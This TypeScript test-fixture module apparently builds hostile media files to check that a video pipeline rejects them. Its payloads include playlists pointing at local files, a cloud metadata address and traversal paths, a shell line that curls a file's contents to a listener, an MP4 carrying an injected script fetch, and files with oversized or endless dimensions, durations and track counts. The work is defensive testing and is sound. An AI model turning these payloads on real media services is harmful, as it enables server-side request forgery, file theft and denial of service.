// Files made to hurt whoever opens them: references to other files and addresses, sizes and lengths
// beyond reason, streams without end, and copies of a good clip with bits turned over.
import { execFileSync } from "node:child_process";
import { readFileSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

export interface Hostile {
  name: string;
  bytes: Buffer;
  reasons: string[]; // any of these; "live" among them where the good part may be shown
}

// A clip of FFmpeg's own pictures, in the container that `name` ends with.
export function goodClip(name: string, options: string[] = [], seconds = 0.5): Buffer {
  const folder = mkdtempSync(join(tmpdir(), "rondo-hostile-"));
  try {
    const file = join(folder, name);
    execFileSync("ffmpeg", ["-v", "error", "-f", "lavfi", "-i", "testsrc2=size=160x120:rate=10", "-f", "lavfi", "-i",
      "sine=frequency=440:sample_rate=48000", "-t", String(seconds), ...options, file], { timeout: 60_000 });
    return readFileSync(file);
  } finally {
    rmSync(folder, { recursive: true });
  }
}

const u32 = (value: number): Buffer => { const b = Buffer.alloc(4); b.writeUInt32BE(value); return b; };
const le32 = (value: number): Buffer => { const b = Buffer.alloc(4); b.writeUInt32LE(value); return b; };
const le16 = (value: number): Buffer => { const b = Buffer.alloc(2); b.writeUInt16LE(value); return b; };
const box = (type: string, ...bodies: Buffer[]): Buffer => {
  const body = Buffer.concat(bodies);
  return Buffer.concat([u32(body.length + 8), Buffer.from(type, "latin1"), body]);
};
const containers = new Set(["moov", "trak", "mdia", "minf", "dinf", "stbl"]);

// The MP4 with every box of that type changed; moov has to be behind mdat, so that nothing moves.
function changeBoxes(bytes: Buffer, type: string, change: (body: Buffer) => Buffer): Buffer {
  const out: Buffer[] = [];
  for (let at = 0; at + 8 <= bytes.length;) {
    const size = bytes.readUInt32BE(at);
    const name = bytes.toString("latin1", at + 4, at + 8);
    const body = bytes.subarray(at + 8, at + size);
    out.push(name === type ? box(name, change(body)) : containers.has(name) ? box(name, changeBoxes(body, type, change))
      : bytes.subarray(at, at + size));
    at += size;
  }
  return Buffer.concat(out);
}

// An EBML element; ids are given with their marker.
const ebml = (id: number, ...bodies: Buffer[]): Buffer => {
  const body = Buffer.concat(bodies);
  const idBytes = Buffer.from(id.toString(16).padStart(2, "0"), "hex");
  const size = Buffer.alloc(8);
  size.writeBigUInt64BE(BigInt(body.length) | (1n << 56n));
  return Buffer.concat([idBytes, size, body]);
};

function matroskaOfTracks(count: number): Buffer {
  const head = ebml(0x1a45dfa3, ebml(0x4282, Buffer.from("webm")));
  const track = ebml(0xae, ebml(0xd7, Buffer.from([1])), ebml(0x83, Buffer.from([1])), ebml(0x86, Buffer.from("V_VP8")));
  return Buffer.concat([head, ebml(0x18538067, ebml(0x1654ae6b, Buffer.alloc(track.length * count, track)),
    ebml(0x1f43b675, ebml(0xe7, Buffer.from([0]))))]);
}

// An AVI with a subtitle stream that is said to be a playlist.
function aviWithSubtitle(playlist: string): Buffer {
  const chunk = (id: string, body: Buffer) =>
    Buffer.concat([Buffer.from(id), le32(body.length), body, Buffer.alloc(body.length & 1)]);
  const list = (id: string, ...parts: Buffer[]) => chunk("LIST", Buffer.concat([Buffer.from(id), ...parts]));
  const header = (type: string, handler: string) => Buffer.concat([Buffer.from(type), Buffer.from(handler), le32(0), le32(0),
    le32(0), le32(1), le32(10), le32(0), le32(5), le32(0), le32(0xffffffff), le32(0), Buffer.alloc(8)]);
  const picture = goodClip("one.jpg", ["-map", "0:v", "-frames:v", "1", "-update", "1"]);
  const sub = Buffer.concat([Buffer.from("GAB2\0"), le16(2), le32(8), Buffer.from("a\0b\0c\0d\0"), le16(4),
    le32(playlist.length), Buffer.from(playlist)]);
  const format = Buffer.concat([le32(40), le32(160), le32(120), le16(1), le16(24), Buffer.from("MJPG"), le32(57600), Buffer.alloc(16)]);
  const body = Buffer.concat([Buffer.from("AVI "),
    list("hdrl", chunk("avih", Buffer.concat([le32(100_000), Buffer.alloc(12), le32(5), le32(0), le32(2), le32(0), le32(160), le32(120), Buffer.alloc(16)])),
      list("strl", chunk("strh", header("vids", "MJPG")), chunk("strf", format)),
      list("strl", chunk("strh", header("txts", "\0\0\0\0")), chunk("strf", Buffer.alloc(0)))),
    list("movi", chunk("01tx", sub), ...Array.from({ length: 5 }, () => chunk("00dc", picture)))]);
  return Buffer.concat([Buffer.from("RIFF"), le32(body.length), body]);
}

// `address` listens, `file` exists: neither may ever be opened.
export function crafted(address: string, file: string): Hostile[] {
  const text = (name: string, words: string): Hostile => ({ name, bytes: Buffer.from(words), reasons: ["not_a_video"] });
  const playlist = (uri: string) => `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${uri}\n#EXT-X-ENDLIST\n`;
  const addresses = [`http://${address}/a.ts`, `https://${address}/a.ts`, `tcp://${address}`, `rtmp://${address}/a`, `rtsp://${address}/a`,
    `gopher://${address}/a`, `crypto+http://${address}/a`, "http://169.254.169.254/latest/meta-data/", "http://[::1]:1/a", "data:video/mp4;base64,AAAA",
    `file://${file}`, `concat:file://${file}|http://${address}/b`, `subfile,,start,0,end,100,,:${file}`, `../../../../../..${file}`];
  const mp4 = goodClip("clip.mp4", ["-c:v", "libx264", "-preset", "ultrafast"]);
  const unedited = Buffer.from(mp4.toString("latin1").replaceAll("edts", "free"), "latin1");
  const avi = goodClip("clip.avi", ["-c:v", "mjpeg", "-an"]);
  const flood = Buffer.from(avi);
  // The size that the pictures themselves say, and the container's.
  for (let at = 0; (at = flood.indexOf(Buffer.from([0xff, 0xc0]), at)) >= 0; at += 9) flood.writeUInt32BE(0xffffffff, at + 5);
  const many = goodClip("clip.webm", ["-c:v", "libvpx", "-deadline", "realtime", "-c:a", "libvorbis"]);
  const ftyp = Buffer.concat([u32(16), Buffer.from("ftypisom\0\0\0\0")]);
  const ts = (words: string) => Buffer.concat(Array.from({ length: 8 }, () => Buffer.concat([Buffer.from([0x47, 0x40, 0, 0x10]), Buffer.from(words.padEnd(184, "\n").slice(0, 184))])));
  const moved = (entry: Buffer) => changeBoxes(mp4, "dref", () => Buffer.concat([u32(0), u32(1), entry]));
  const long = (body: Buffer, at: number, value: number) => { const b = Buffer.from(body); b.writeUInt32BE(value, at); return b; };
  return [
    ...addresses.map((uri, i) => text(`playlist-${i}.mp4`, playlist(uri))),
    text("nested.mp4", `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://${address}/inner.m3u8\n#EXT-X-MEDIA:TYPE=AUDIO,URI="file://${file}"\n`),
    text("concat.mp4", `ffconcat version 1.0\nfile ${file}\nfile http://${address}/x\n`),
    text("session.mp4", `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 ${address.split(":")[0]}\nt=0 0\nm=video 1 RTP/AVP 96\n`),
    text("dash.mp4", `<?xml version="1.0"?><MPD><Period><BaseURL>http://${address}/</BaseURL></Period></MPD>`),
    text("drawing.mp4", `<svg xmlns:xlink="x"><image xlink:href="http://${address}/"/></svg>`),
    text("script.mp4", `#!/bin/sh\ncurl http://${address}/$(cat ${file})\n`),
    text("notes.mp4", "just words\n".repeat(500)),
    // The same behind a video's first bytes.
    ...[playlist(`http://${address}/a`), playlist(`file://${file}`)].flatMap((words, i) => [
      { name: `disguised-${i}.mp4`, bytes: Buffer.concat([ftyp, Buffer.from(words)]), reasons: ["damaged"] },
      { name: `disguised-${i}.ts`, bytes: ts(words), reasons: ["damaged", "no_picture"] },
      { name: `subtitle-${i}.avi`, bytes: aviWithSubtitle(words), reasons: ["live", "damaged", "unsupported_codec"] },
    ]),
    // Media that is said to be elsewhere.
    { name: "elsewhere-file.mp4", bytes: moved(box("url ", u32(0), Buffer.from(`file://${file}\0`))), reasons: ["live", "damaged"] },
    { name: "elsewhere-address.mp4", bytes: moved(box("url ", u32(0), Buffer.from(`http://${address}/m.mp4\0`))), reasons: ["live", "damaged"] },
    { name: "elsewhere-alias.mov", bytes: moved(box("alis", u32(0), Buffer.alloc(150, file))), reasons: ["live", "damaged"] },
    { name: "flood.avi", bytes: flood, reasons: ["too_many_pixels", "damaged"] },
    { name: "flood.mkv", bytes: Buffer.concat([many.subarray(0, 4), many.subarray(4)]).fill(0xff, 64, 600), reasons: ["damaged", "too_many_pixels", "live"] },
    { name: "million.mkv", bytes: matroskaOfTracks(1_000_000), reasons: ["too_many_streams"] },
    { name: "thousand.mkv", bytes: matroskaOfTracks(1000), reasons: ["too_many_streams"] },
    // A frame lasts for months; a file says that it lasts for millennia, which nobody believes.
    { name: "endless.mp4", bytes: changeBoxes(unedited, "stts", (b) => long(b, 12, 0x00ffffff)), reasons: ["duration_too_long", "damaged"] },
    { name: "boast.mp4", bytes: changeBoxes(mp4, "mvhd", (b) => long(b, 16, 0xffffffff)), reasons: ["live"] },
    { name: "samples.mp4", bytes: changeBoxes(mp4, "stsz", (b) => long(b, 8, 0xffffffff)), reasons: ["damaged", "live"] },
    { name: "samples-equal.mp4", bytes: changeBoxes(mp4, "stsz", (b) => long(long(b, 4, 1), 8, 0x7fffffff)), reasons: ["damaged", "live", "too_much_work"] },
    // A video that is also a page: shown, and nothing of the page is left.
    { name: "polyglot.mp4", bytes: Buffer.concat([mp4, box("free", Buffer.from(`<script>fetch("http://${address}/")</script>`.repeat(50)))]), reasons: ["live"] },
  ];
}

// The same numbers for the same seed.
export function random(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (Math.imul(state ^ (state >>> 15), 0x2c1b3c6d) + 0x9e3779b9) >>> 0;
    let z = Math.imul(state ^ (state >>> 12), 0x297a2d39);
    z = (z ^ (z >>> 15)) >>> 0;
    return z / 2 ** 32;
  };
}

// Cut short, or with bits turned over, most of them near the front, where the structure is.
export function broken(bytes: Buffer, next: () => number): Buffer {
  const out = Buffer.from(bytes);
  if (next() < 0.3) return out.subarray(0, 1 + Math.floor(next() * (bytes.length - 1)));
  const flips = 1 + Math.floor(next() * 30);
  for (let i = 0; i < flips; ++i) {
    const at = Math.floor((next() < 0.6 ? next() ** 3 : next()) * out.length);
    out[at] ^= 1 << Math.floor(next() * 8);
  }
  return out;
}
